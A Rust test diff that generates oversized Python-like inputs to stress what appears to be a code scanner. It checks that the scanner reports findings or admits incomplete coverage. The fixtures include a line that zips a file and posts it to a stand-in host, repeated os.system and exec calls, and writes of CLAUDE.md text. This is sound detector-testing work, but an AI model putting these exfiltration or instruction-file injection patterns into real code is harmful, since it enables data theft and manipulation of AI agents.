@@ -21,8 +21,26 @@ fn shapes() -> Vec<(&'static str, String)> {
             "z{n} = zipfile.ZipFile(b, 'w')\nz{n}.write(c)\nrequests.post('https://x.example', data=b)"
         );
     }
+    // Every text is put together from a thousand others, each of which is put together from a thousand others.
+    let mut riddles = "e0 = ''.join([''[::-1]])\n".to_owned();
+    for n in 0..4 {
+        let _ = writeln!(riddles, "e{} = ''.join([{}])", n + 1, format!("e{n}, ").repeat(1_000));
+    }
+    riddles += "exec(e4)\n";
+    // The same long command, script and guide for every call.
+    let mut repeated = format!("c = 'x; ' * 6000\ng = 'CLAUDE.md {}'\n", "You read it. ".repeat(1_000));
+    for _ in 0..3_000 {
+        repeated += "os.system(c)\nexec(c)\nf.write(g)\n";
+    }
+    let mut different = "c = 'x = eval(y); ' * 3000\n".to_owned();
+    for n in 0..2_000 {
+        let _ = writeln!(different, "exec(c + '{n}')");
+    }
     vec![
         ("writers", writers),
+        ("riddles", riddles),
+        ("repeated texts", repeated),
+        ("different texts", different),
         ("parentheses", pairs("(", "1", ")")),
         ("lists", pairs("[", "1", "]")),
         ("dictionaries", pairs("{1:", "1", "}")),
@@ -67,6 +85,9 @@ fn shapes_without_measure_are_judged_or_said_not_to_be() {
         // What was read has the finding; what was not is a gap. Neither is a pass, and nothing is a bug.
         assert!(matches!(ran.code, 1 | 3), "{name}: {} {}", ran.code, ran.stderr);
         assert!(ran.code == 1 || envelope["stats"]["judged"] == 0, "{name}");
+        if matches!(name, "riddles" | "different texts") {
+            assert_eq!(envelope["complete"], false, "{name} asks for more than is looked at, which is said");
+        }
     }
 }
 
